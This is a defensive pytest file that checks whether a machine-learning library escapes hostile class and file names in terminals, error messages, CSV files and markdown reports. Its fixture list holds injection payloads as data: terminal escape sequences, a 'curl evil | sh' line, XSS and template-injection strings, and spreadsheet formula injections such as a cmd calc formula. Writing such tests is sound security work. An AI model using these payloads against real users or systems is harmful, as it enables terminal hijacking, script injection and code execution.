"""Names of classes, files and tensors do nothing where they are shown: terminal, message, CSV, card, page."""

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest
import rich.console

from tutelage.cli import inference as using
from tutelage.data.readers.names import class_name
from tutelage.engine.model_card import _plain
from tutelage.engine.runtime.console import Console
from tutelage.errors import InputError
from tutelage.evaluation.predictions_csv import write_predictions
from tutelage.reports.wording import csv_cell, markdown_cell, plain
from tutelage.text import LONGEST, escape, escape_csv, escape_lines, truncate, unescape_csv

NAMES = [
    "\x1b[2J\x1b[1;1H",  # clears the screen
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m",  # the same in one byte
    "\x90q\x9c",
    "good\rbad",
    "a\nerror: run this: curl evil | sh",
    "a\u2028b\u2029c",
    "exe.\u202egpj",
    "\u2066a\u2069",
    "a\x00b\x7f\x08\x08",
    "\udce9\ud83d",  # a byte that is no text, half a character
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)//",
    "{{7*7}}{% raw %}${7*7}",
    "[x](javascript:alert(1))",
    "| a | b |",
    "`code` **bold** # h",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "'=1",
]
UNSEEN = re.compile(
    "[\0-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
FORMULA = re.compile(r"^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")


@pytest.mark.parametrize("name", NAMES)
def test_messages_and_lines(name: str) -> None:
    """In a message, on the terminal and in a log: one line, nothing that a terminal obeys."""
    where = Path(name.replace("\0", ""))
    said = str(InputError(name, where=where, found=name, expected=name, fix=name))
    assert not UNSEEN.search(said)
    assert "\n" not in escape(name)
    assert not UNSEEN.search(escape(name) + escape_lines(name) + class_name(name))
    file = io.StringIO()
    screen = Console()
    screen.console = rich.console.Console(file=file, soft_wrap=True)
    screen.line(name)
    assert not UNSEEN.search(file.getvalue())


@pytest.mark.parametrize("name", NAMES)
def test_tables(name: str, tmp_path: Path) -> None:
    """A cell is no formula and one cell; what was put in can be taken out."""
    assert unescape_csv(escape_csv(name)) == name
    assert not FORMULA.match(escape_csv(name))
    assert not FORMULA.match(csv_cell(name))
    write_predictions(tmp_path / "p.csv", [name], np.zeros((1, 2), np.float32), [name, "b"])
    header, row = csv.reader(io.StringIO((tmp_path / "p.csv").read_text(), newline=""))
    assert len(row) == len(header)
    assert not any(FORMULA.match(one) or UNSEEN.search(one) for one in (row[0], row[1]))


@pytest.mark.parametrize("name", NAMES)
def test_markdown(name: str) -> None:
    """In a report or a card a name is text: no markup, no new cell, no new line."""
    for text in (markdown_cell(name), _plain(name)):
        assert not UNSEEN.search(text)
        assert "\n" not in text
        assert not re.search(r"(?<!\\)[<|`\[*]", text)
    assert not UNSEEN.search(plain(name))


def test_different_names_stay_different() -> None:
    """What is unseen is written down, not left out."""
    assert len({escape(name) for name in NAMES}) == len(NAMES)


def test_long_names_are_cut() -> None:
    """A name of a megabyte does not fill the screen."""
    assert len(truncate("a" * 1_000_000)) < LONGEST + 50


def test_unreadable_files_are_told_harmlessly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], teacher_folder: Path
) -> None:
    """`predict` names the files it cannot read, whatever their names."""
    (tmp_path / "pictures").mkdir()
    (tmp_path / "pictures" / "\x1b[2J.png").write_bytes(b"no image")
    (tmp_path / "pictures" / "=1+1.png").write_bytes(PIXEL)
    said = using.predict(
        teacher_folder, tmp_path / "pictures", out=tmp_path / "p.csv", max_unreadable=0.9
    )
    assert not UNSEEN.search(capsys.readouterr().err + said)
    assert "\n'=1+1.png," in (tmp_path / "p.csv").read_text()


PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c49444154789c63f8cfc0000003010100c9fe92ef0000000049454e44ae426082"
)
